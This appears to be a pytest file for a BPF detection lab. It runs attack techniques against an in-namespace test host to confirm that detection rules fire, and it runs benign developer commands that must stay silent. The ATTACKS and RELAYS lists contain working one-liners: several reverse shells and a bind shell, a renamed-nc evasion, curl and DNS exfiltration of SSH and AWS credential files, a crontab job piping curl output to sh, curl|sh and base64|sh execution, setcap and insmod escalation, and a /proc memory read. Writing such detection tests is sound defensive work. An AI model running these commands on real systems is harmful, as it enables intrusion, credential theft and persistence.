"""Issue 13's missed classes, live: each technique runs for real against an "outside" test host
in a network namespace of this machine, under the probes and the bundled rules, and must raise
its family's rule; the trace recorded from the same run must raise the same alerts on replay.
The ordinary work the old rules alerted on runs the same way and must raise nothing.

The probes are loaded once for the module, watching a parent cgroup; every case runs in a
child cgroup of its own, and its events (routed by leaf cgroup id) feed its own rule engine
and its own trace.
"""

from __future__ import annotations

import sys
from collections import Counter

import pytest

from detection_lab import fake_home, needs, open_lab

pytestmark = pytest.mark.bpf


@pytest.fixture(scope="module")
def lab(tmp_path_factory):
    with open_lab(tmp_path_factory.mktemp("detection"), "coi-detect") as lb:
        yield lb


@pytest.fixture
def home(tmp_path):
    """A fake home with fake secrets, and a small git project in it."""
    files = {
        ".ssh/id_ed25519": "-----BEGIN OPENSSH PRIVATE KEY-----\nfake\n-----END OPENSSH PRIVATE KEY-----\n",
        ".aws/credentials": "[default]\naws_access_key_id = AKIAIOSFODNN7EXAMPLE\n",
        ".npmrc": "//registry.npmjs.org/:_authToken=npm_FakeLiveTestToken\n",
        "project/README.md": "# project\n",
        "project/.env.test": "API_KEY=test\n",
        "project/.env.example": "API_KEY=\n",
        "project/.github/workflows/ci.yml": "on: push\n",
    }
    return fake_home(tmp_path, files)


# (name, programs, script, the family whose rule must fire, dial port)
ATTACKS = [
    ("nc_fifo_relay", ("nc", "mkfifo"),
     "rm -f f; mkfifo f; cat f | /bin/sh -i 2>&1 | timeout 20 nc -N $HOST 443 > f; rm -f f",
     "reverse_shell", None),
    ("socat_pty", ("socat",),
     "timeout 20 socat exec:'bash -li',pty,stderr,setsid,sigint,sane tcp:$HOST:443 || true",
     "reverse_shell", None),
    ("openssl_relay", ("openssl", "mkfifo"),
     "rm -f s; mkfifo s; /bin/sh -i < s 2>&1 | timeout 10 openssl s_client -quiet -connect $HOST:8443 "
     "> s 2>/dev/null || true; rm -f s",
     "reverse_shell", None),
    ("gawk_inet", ("gawk",),
     "timeout 20 gawk -v H=$HOST 'BEGIN { s = \"/inet/tcp/0/\" H \"/1337\"; while (1) { printf \"> \" |& s; "
     "if ((s |& getline c) <= 0) break; if (c == \"exit\") break; "
     "while (c && (c |& getline) > 0) print $0 |& s; close(c) } }' || true",
     "reverse_shell", None),
    ("bind_ncat", ("ncat",), "timeout 20 ncat -l $LOCAL 7101 -e /bin/sh || true",
     "reverse_shell", 7101),
    ("proc_mem_read", (),
     "sleep 20 & pid=$!; sleep 0.3; start=$(awk '/\\[stack\\]/ {split($1, a, \"-\"); print a[1]}' "
     "/proc/$pid/maps); dd if=/proc/$pid/mem bs=4096 skip=$(( 0x$start / 4096 )) count=1 status=none "
     "| wc -c; kill $pid",
     "credentials", None),
    ("curl_einprogress_exfil", ("curl",),
     "curl -sS -m 5 -o /dev/null --data-binary @$HOME/.ssh/id_ed25519 http://$HOST:443/k",
     "exfiltration", None),
    ("dns_encoded_labels", ("dig", "xxd"),
     "for c in $(xxd -p -c 30 ~/.aws/credentials); do dig +short +tries=1 +time=1 @$HOST $c.x.test "
     "> /dev/null || true; done",
     "exfiltration", None),
    ("crontab_pipe", ("crontab",),
     # root's own crontab, if any, is put back
     "crontab -l > saved 2>/dev/null || true; "
     "echo '*/5 * * * * curl -s http://198.18.0.2/c | sh' | crontab -; "
     "if [ -s saved ]; then crontab saved; else crontab -r; fi",
     "persistence", None),
    ("curl_pipe_sh", ("curl",), "curl -sSf $ATK/run.sh | sh", "execution", None),
    ("wget_chmod_exec", ("wget",), "wget -q -O upd $ATK/tool && chmod +x upd && ./upd",
     "execution", None),
    ("base64_pipe_sh", (), "echo ZWNobyBkZWNvZGVkCg== | base64 -d | sh", "execution", None),
    ("setcap_setuid", ("setcap",), "cp /usr/bin/true t && setcap cap_setuid+ep t; rm -f t",
     "escalation", None),
    ("insmod_attempt", ("insmod",), "head -c 512 /dev/urandom > m.ko; insmod ./m.ko 2>/dev/null || true",
     "escalation", None),
]


@pytest.mark.parametrize("name, programs, script, family, dial", ATTACKS, ids=[a[0] for a in ATTACKS])
def test_missed_class_is_caught_live_and_in_its_trace(lab, home, name, programs, script, family, dial):
    """A rule of the technique's family fires (which one may depend on the order two ring
    buffers deliver events in: socat's connect and its fork, for one), and the trace of the
    run raises exactly what the live engine raised."""
    needs(*programs)
    work = home / "work"
    work.mkdir()
    live, replayed, out = lab.run(name, script, home=home, cwd=work, dial=dial)
    assert {lab.family(r) for r in live} & {family}, (dict(live), out[-2000:])
    assert replayed == live


#: relayed shells: the shell never has the socket, a helper does; the kernel's pipe, fifo and
#: pty records must link them (shell_relayed_through_pipe_to_socket), whatever the names
RELAYS = [
    ("nc_fifo_relay", ("nc", "mkfifo"),
     "rm -f f; mkfifo f; cat f | /bin/sh -i 2>&1 | timeout 20 nc -N $HOST 443 > f; rm -f f"),
    ("nc_fifo_renamed", ("nc", "mkfifo"),
     "rm -f f; mkfifo f; cp $(command -v nc) ./kworker; cat f | /bin/sh -i 2>&1 "
     "| timeout 20 ./kworker -N $HOST 1337 > f; rm -f f kworker"),
    ("socat_pty", ("socat",),
     "timeout 20 socat exec:'bash -li',pty,stderr,setsid,sigint,sane tcp:$HOST:443 || true"),
    ("openssl_relay", ("openssl", "mkfifo"),
     "rm -f s; mkfifo s; /bin/sh -i < s 2>&1 | timeout 10 openssl s_client -quiet -connect $HOST:8443 "
     "> s 2>/dev/null || true; rm -f s"),
    ("bash_pipes_two_nc", ("nc",),
     "timeout 20 nc $HOST 443 | /bin/bash | timeout 20 nc $HOST 80 > /dev/null || true"),
]


@pytest.mark.parametrize("name, programs, script", RELAYS, ids=[r[0] for r in RELAYS])
def test_relayed_shell_is_linked_through_its_pipes_live(lab, home, name, programs, script):
    needs(*programs)
    work = home / "work"
    work.mkdir()
    live, replayed, out = lab.run(name, script, home=home, cwd=work)
    assert live["shell_relayed_through_pipe_to_socket"] == 1, (dict(live), out[-2000:])
    assert replayed == live


BENIGN = [
    ("npm_reads_npmrc", ("npm",), "npm config list > /dev/null"),
    ("cp_r_repository", (), "cp -r ~/project /tmp/$$-copy && rm -rf /tmp/$$-copy"),
    ("git_c_hookspath_devnull", ("git",),
     "cd ~/project && echo x >> README.md && git add README.md && "
     "git -c core.hooksPath=/dev/null -c user.name=a -c user.email=a@b commit -qm x"),
    ("env_test_and_example", (), "cat ~/project/.env.test ~/project/.env.example > /dev/null"),
    ("venv_in_tmp", (), f"{sys.executable} -m venv --without-pip /tmp/$$-venv && "
                        "/tmp/$$-venv/bin/python -c 'print(1)'; rm -rf /tmp/$$-venv"),
    ("ps_and_top", (), "ps -e > /dev/null; ps auxe > /dev/null; top -b -n 1 > /dev/null"),
    # a pane records its login in utmp/wtmp through libutempter's setgid helper
    ("tmux_panes", ("tmux",), "tmux -L t$$ -f /dev/null new-session -d -x 80 -y 24 'sleep 5' && "
                              "tmux -L t$$ split-window -d 'sleep 5' && sleep 0.5 && tmux -L t$$ kill-server"),
    # debugging and inspecting one's own programs
    ("strace_and_gdb_own_child", ("strace", "gdb", "cc"),
     "strace -f -o /dev/null ls > /dev/null && cd ~/project && printf 'int main(){return 0;}\\n' > m.c && "
     "cc -g -o m m.c && gdb -q -batch -ex run ./m > /dev/null 2>&1"),
    ("lsof_and_ss", ("lsof", "ss"), "lsof -nP > /dev/null 2>&1; ss -tlnp > /dev/null"),
    # keys and certificates made for the project, not taken from anyone
    ("dev_cert_and_new_ssh_key", ("openssl", "ssh-keygen"),
     "cd ~/project && openssl req -x509 -newkey rsa:2048 -nodes -keyout key.pem -out cert.pem -days 1 "
     "-subj /CN=localhost 2>/dev/null && ssh-keygen -q -t ed25519 -N '' -f ~/.ssh/id_new -C dev"),
    ("crontab_list_git_config_global", ("crontab", "git"),
     "crontab -l > /dev/null 2>&1; git config --global user.name dev && "
     "git config --global init.defaultBranch main"),
    ("local_dev_server", ("curl",),
     f"cd ~/project && ({sys.executable} -m http.server 8765 --bind 127.0.0.1 > /dev/null 2>&1 &); "
     "sleep 1; curl -s http://127.0.0.1:8765/ > /dev/null; pkill -f 'http.server 8765'"),
]


@pytest.mark.parametrize("name, programs, script", BENIGN, ids=[b[0] for b in BENIGN])
def test_ordinary_work_raises_nothing(lab, home, name, programs, script):
    needs(*programs)
    live, replayed, out = lab.run(name, script, home=home, cwd=home)
    assert live == Counter() and replayed == Counter(), (dict(live), out[-2000:])
